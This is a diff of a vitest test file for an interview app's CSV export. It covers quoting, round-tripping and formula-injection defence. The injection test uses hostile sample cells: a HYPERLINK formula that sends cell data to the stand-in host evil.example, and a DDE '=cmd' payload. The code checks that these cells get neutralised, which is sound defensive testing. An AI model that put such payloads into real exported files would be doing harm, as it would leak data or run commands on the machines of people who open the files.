@@ -1,14 +1,38 @@
-import { describe, expect, it } from "vitest";
+import "../setup/i18n";
+import Papa from "papaparse";
+import { afterEach, describe, expect, it } from "vitest";
 import type { Interview } from "../../src/db/schema";
-import { csvField, csvFileName, interviewRows, toCsv } from "../../src/options/export-csv";
+import { csvFileName, interviewRows, toCsv } from "../../src/options/export-csv";
+import { missingMessages } from "../setup/i18n";
+
+afterEach(() => {
+  expect([...missingMessages]).toEqual([]);
+});
+
+/** Reads CSV text back as a spreadsheet program would: the byte-order mark dropped, rows of cells. */
+function readBack(csv: string): string[][] {
+  expect(csv.startsWith("\uFEFF")).toBe(true);
+  const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
+  expect(parsed.errors).toEqual([]);
+  return parsed.data;
+}
 
 describe("toCsv", () => {
-  it("quotes fields with commas, quotes and line breaks, doubling quotes", () => {
-    expect(csvField("plain")).toBe("plain");
-    expect(csvField("a,b")).toBe('"a,b"');
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField("two\nlines")).toBe('"two\nlines"');
-    expect(csvField("cr\rhere")).toBe('"cr\rhere"');
+  it("gives back every cell as written: commas, quotes, line breaks, accents", () => {
+    const rows = [
+      ["Company", "Notes"],
+      ["Café Ébène, Lyon", 'Bring the "portfolio" next time'],
+      ["Zürich Ltd", "Line one\nline two\r\nline three"],
+      ["  spaced  ", "naïve résumé — 東京 🎉"],
+      ["", "a = b, c + d"],
+    ];
+    expect(readBack(toCsv(rows))).toEqual(rows);
+  });
+
+  it("quotes only where needed, doubling quotes", () => {
+    expect(toCsv([["plain", "a,b", 'say "hi"', "two\nlines"]])).toBe(
+      '\uFEFFplain,"a,b","say ""hi""","two\nlines"\r\n',
+    );
   });
 
   it("starts with a byte-order mark and ends lines with CRLF", () => {
@@ -18,6 +42,29 @@ describe("toCsv", () => {
         ["Zürich, CH", "é"],
       ]),
     ).toBe('\uFEFFa,b\r\n"Zürich, CH",é\r\n');
+  });
+
+  it("keeps a spreadsheet from running a cell as a formula, on one line or several", () => {
+    const rows = [
+      [
+        '=HYPERLINK("https://evil.example/?"&A2,"Open")',
+        "+1 555 0100",
+        "- rambled\n- no questions",
+        "@SUM(A1:A2)",
+        '=cmd|"/c calc"!A1\nsecond line',
+        "Lumen = good",
+      ],
+    ];
+    expect(readBack(toCsv(rows))).toEqual([
+      [
+        `'=HYPERLINK("https://evil.example/?"&A2,"Open")`,
+        "'+1 555 0100",
+        "'- rambled\n- no questions",
+        "'@SUM(A1:A2)",
+        `'=cmd|"/c calc"!A1\nsecond line`,
+        "Lumen = good",
+      ],
+    ]);
   });
 
   it("names the file by the local day", () => {
@@ -67,7 +114,7 @@ describe("interviewRows", () => {
         ],
       },
     ]);
-    expect(header?.slice(0, 10)).toEqual([
+    expect(header).toEqual([
       "Company",
       "Role",
       "Round",
@@ -78,6 +125,14 @@ describe("interviewRows", () => {
       "Interviewer emails",
       "Posting",
       "Notes",
+      "Did I answer the questions directly?",
+      "Did I show my skills while staying humble?",
+      "Did the conversation flow naturally?",
+      "Was I prepared?",
+      "Reflection note",
+      "Feedback received",
+      "Feedback",
+      "Feedback themes",
     ]);
     expect(row).toEqual([
       "Café Nord",
